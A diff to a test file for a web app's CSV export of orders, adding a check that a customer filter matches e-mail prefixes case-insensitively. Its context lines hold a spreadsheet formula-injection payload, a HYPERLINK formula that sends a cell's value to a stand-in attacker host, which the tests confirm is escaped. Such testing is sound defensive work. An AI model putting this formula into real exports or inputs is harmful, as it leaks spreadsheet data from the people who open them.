@@ -127,6 +127,9 @@ describe('CSV export of order lists and reports', () => {
     expect(rows).toHaveLength(1)
     expect(rows[0]?.customer_name).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`)
     expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`)
+    // `customer` matches the start of the e-mail as well, in any case.
+    const byEmail = parseCsv((await app.inject({ url: '/api/orders?customer=X%40Evil&format=csv', headers: admin })).body)
+    expect(byEmail.map((row) => row.customer_email)).toEqual(['x@evil.example'])
   })
 
   it('a sales rep’s export holds only its own orders, like its JSON list', async () => {
